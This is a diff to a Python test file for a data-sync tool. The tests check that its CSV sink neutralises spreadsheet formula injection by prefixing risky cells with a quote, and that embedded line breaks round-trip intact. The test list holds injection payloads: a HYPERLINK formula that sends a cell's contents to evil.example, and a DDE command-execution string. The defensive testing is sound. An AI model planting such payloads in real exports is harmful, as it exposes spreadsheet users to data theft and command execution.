@@ -18,13 +18,13 @@ from support_http import LoopbackServer, Received, Reply, dead_url
 
 from syncd.assemble import open_sink
 from syncd.config.schema.sinks import SinkConfig
+from syncd.http import RetryPolicy
 from syncd.model import RESULT_COLUMNS, LearningResult, ResultStatus
 from syncd.sink_protocol import SinkError
 from syncd.sinks.sql import results_table, upsert_portable
-from syncd.sources.transport import RetryPolicy
 from syncd.vendors.hownow.sink import HowNowSink
 
-FAST = RetryPolicy(attempts=4, base_delay=0.01, max_delay=0.05)
+FAST = RetryPolicy(attempts=4, backoff_initial=0.01, backoff_max=0.05, max_retry_after=0.05)
 HEADER = ",".join(RESULT_COLUMNS) + "\n"
 
 
@@ -109,6 +109,62 @@ def test_csv_delimiter_and_quoting(tmp_path):
     header, row = path.read_text().splitlines()
     assert header == ";".join(RESULT_COLUMNS)
     assert ';"Safety; part 1, ""basics""";' in row
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\tTabbed",
+    "\rReturned",
+]
+
+
+def read_back(path) -> list[list[str]]:
+    import csv
+
+    with path.open(newline="", encoding="utf-8") as handle:
+        return list(csv.reader(handle))
+
+
+@pytest.mark.parametrize("mode", ["append", "rewrite"])
+def test_csv_cells_a_spreadsheet_would_run_are_written_behind_a_quote(tmp_path, mode):
+    path = tmp_path / "training.csv"
+    out = sink({"type": "csv", "path": str(path), "mode": mode})
+    rows = [result(user=str(n), course_name=name) for n, name in enumerate(FORMULAS)]
+    out.write(rows)
+    out.write([result(user="99", course_name="Fire safety", score=-1.5)])
+    table = read_back(path)
+    assert table[0] == list(RESULT_COLUMNS)
+    column = RESULT_COLUMNS.index("course_name")
+    assert [row[column] for row in table[1:]] == [f"'{name}" for name in FORMULAS] + [
+        "Fire safety"
+    ]
+    # Numbers syncd writes itself are numbers, not text a spreadsheet would run.
+    assert table[-1][RESULT_COLUMNS.index("score")] == "-1.5"
+
+
+def test_csv_formula_escaping_can_be_switched_off(tmp_path):
+    path = tmp_path / "training.csv"
+    out = sink({"type": "csv", "path": str(path), "escape_formulas": False})
+    out.write([result(user=str(n), course_name=name) for n, name in enumerate(FORMULAS)])
+    column = RESULT_COLUMNS.index("course_name")
+    assert [row[column] for row in read_back(path)[1:]] == FORMULAS
+
+
+@pytest.mark.parametrize("mode", ["append", "rewrite"])
+def test_csv_line_breaks_inside_a_cell_read_back_as_the_rows_written(tmp_path, mode):
+    path = tmp_path / "training.csv"
+    out = sink({"type": "csv", "path": str(path), "mode": mode})
+    names = ["Part\rone", "Part\ntwo", "Part\r\nthree", "plain"]
+    out.write([result(user=str(n), course_name=name) for n, name in enumerate(names)])
+    out.write([result(user="9", course_name="later\rtoo")])  # the old rows are read and kept
+    table = read_back(path)
+    column = RESULT_COLUMNS.index("course_name")
+    assert len(table) == 1 + len(names) + 1
+    assert [row[column] for row in table[1:]] == [*names, "later\rtoo"]
+    assert all(len(row) == len(RESULT_COLUMNS) for row in table)
 
 
 def test_csv_failed_write_leaves_the_old_file_intact(tmp_path, monkeypatch):
